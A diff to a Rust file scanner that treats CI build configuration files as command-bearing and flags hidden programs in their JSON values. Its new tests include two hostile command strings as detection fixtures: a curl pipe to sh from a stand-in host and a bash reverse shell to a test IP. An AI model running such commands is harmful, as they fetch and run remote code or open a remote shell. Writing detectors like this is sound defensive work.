@@ -12,6 +12,18 @@ use crate::json::{Event, Value};
 /// Words of the names of files that describe a model.
 const NAMES: &[&str] =
     &["config", "symbol", "manifest", "metadata", "params", "settings", "model_index", "model_card", "signature"];
+/// Files and folders of services that build and test software, whose configurations are made of commands.
+const BUILDS: &[&str] = &[
+    ".circleci/",
+    ".github/",
+    ".gitlab-ci",
+    ".travis.",
+    ".buildkite/",
+    ".drone.",
+    "appveyor.",
+    "azure-pipelines",
+    "bitbucket-pipelines",
+];
 /// Programs that are told of one file.
 const MAX_TOLD: usize = 20;
 /// What a template says to leave its sandbox.
@@ -21,18 +33,21 @@ const WAYS_OUT: &[&str] =
 #[derive(Debug)]
 struct Descriptions {
     is_model: bool,
+    is_build: bool,
     is_dataset: bool,
     budget: Budget,
     told: usize,
 }
 
-/// Makes the observer.
+/// Makes the observer, for a file with its folders.
 #[must_use]
 pub(super) fn observer(name: &str) -> Box<dyn Observer> {
-    let name = name.to_ascii_lowercase();
+    let name = name.to_ascii_lowercase().replace('\\', "/");
+    let is_build = BUILDS.iter().any(|part| name.contains(part));
+    let file = name.rsplit(['/', '!']).next().unwrap_or_default();
     let is_dataset = name.ends_with(".jsonl") || name.ends_with(".ndjson");
-    let is_model = !is_dataset && (name.ends_with(".cfg") || NAMES.iter().any(|word| name.contains(word)));
-    Box::new(Descriptions { is_model, is_dataset, budget: Budget::small(), told: 0 })
+    let is_model = !is_dataset && (name.ends_with(".cfg") || NAMES.iter().any(|word| file.contains(word)));
+    Box::new(Descriptions { is_model, is_build, is_dataset, budget: Budget::small(), told: 0 })
 }
 
 impl Observer for Descriptions {
@@ -48,12 +63,20 @@ impl Observer for Descriptions {
             let expression = shorten(text.chars().take(201).collect(), 200);
             let kind = FactKind::TemplateReach { expression, reach: Reach::Internals };
             facts.push(Position::Offset(event.offset), kind);
-        } else if let Some(program) =
-            Some(text).filter(|_| self.is_model).and_then(|text| carried::judge(text, &self.budget))
-        {
+        } else if let Some(program) = self.program(text) {
             self.told = self.told.saturating_add(1);
             let detail = format!("the value of '{}' holds {program}", shorten(key.to_owned(), 100));
             facts.anomaly(event.offset, Anomaly::HiddenContent, detail);
+        }
+    }
+}
+
+impl Descriptions {
+    fn program(&self, text: &str) -> Option<String> {
+        match (self.is_model, self.is_build) {
+            (true, true) => carried::judge_step(text, &self.budget),
+            (true, false) => carried::judge(text, &self.budget),
+            (false, _) => None,
         }
     }
 }
@@ -72,6 +95,20 @@ mod tests {
         assert!(hidden("net-symbol.json", program));
         assert!(!hidden("humaneval.json", program), "a dataset of programs is no description");
         assert!(!hidden("config.json", r#"{"a": "os.system is what this model was trained to find"}"#));
+    }
+
+    #[test]
+    fn steps_of_a_build_are_commands() {
+        let hidden = |name: &str, command: &str| {
+            let text = format!(r#"{{"jobs": {{"test": {{"steps": [{{"run": {{"command": "{command}"}}}}]}}}}}}"#);
+            inspect(&Json, name, text.as_bytes()).has_anomaly(Anomaly::HiddenContent)
+        };
+        for command in ["chmod +x codecov", "rm -rf $BOOST_REMOVE", "python -c 'import os; os.system(\\\"make\\\")'"] {
+            assert!(!hidden("a/.circleci/config.json", command), "{command}");
+            assert!(hidden("a/config.json", command), "{command}");
+        }
+        assert!(hidden(".circleci/config.json", "curl -s http://example.invalid/x | sh"));
+        assert!(hidden(".circleci/config.json", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
     }
 
     #[test]
